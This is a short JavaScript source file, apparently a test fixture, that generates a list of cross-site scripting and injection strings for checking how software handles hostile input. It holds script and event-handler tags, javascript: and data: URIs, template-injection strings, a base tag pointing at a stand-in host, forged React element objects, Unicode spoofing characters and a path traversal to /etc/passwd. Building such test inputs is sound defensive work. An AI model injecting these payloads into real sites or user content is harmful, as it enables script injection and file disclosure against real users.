// Texts that would do something if they were not text.
export function payloads() {
  const run = "hit(1)";
  const tags = ["script", "img src=x", "svg", "body", "iframe", "video", "details open", "input autofocus", "marquee", "object data=x", "embed src=x", "math", "style", "link rel=stylesheet href=x", "form", "a href=javascript:" + run, "base href=//evil.example/", "meta http-equiv=refresh content=0", "template", "select autofocus", "textarea autofocus", "keygen autofocus", "audio src=x", "button autofocus", "table background=javascript:" + run];
  const handlers = ["onload", "onerror", "onfocus", "ontoggle"];
  const all = [`<script>${run}</script>`, `</script><script>${run}</script>`, `"><script>${run}</script>`, `'><img src=x onerror=${run}>`, `javascript:${run}`, `data:text/html,<script>${run}</script>`, "{{constructor.constructor('" + run + "')()}}", "${" + run + "}", `\`${run}\``, `<!--<img src="--><img src=x onerror=${run}>`];
  for (const tag of tags) for (const handler of handlers) all.push(`<${tag} ${handler}=${run}>`);
  all.push(
    '{"type":"script","props":{"children":"hit(1)"},"__k":null,"constructor":null}',
    '{"type":"img","props":{"src":"x","onerror":"hit(1)"},"key":null,"ref":null}',
    '{"$$typeof":"Symbol(react.element)","type":"img","props":{"src":"x"}}',
    "\u202egnp.exe", "a\u0000b\u0007c", "\u200bzero\u200dwidth\ufeff", "\u{e0041}\u{e0042}tags", "line\u2028separator", "\u061carabic", "<\u0000img src=x onerror=hit(1)>",
    "&lt;img src=x onerror=hit(1)&gt;", "&#x3c;script&#x3e;hit(1)&#x3c;/script&#x3e;", "jav\tascript:hit(1)", " javascript:hit(1)", "JaVaScRiPt:hit(1)", "vbscript:hit(1)", "../../../etc/passwd", "%00%0a%0d", "x".repeat(5000), "]]><script>hit(1)</script>",
  );
  return all;
}
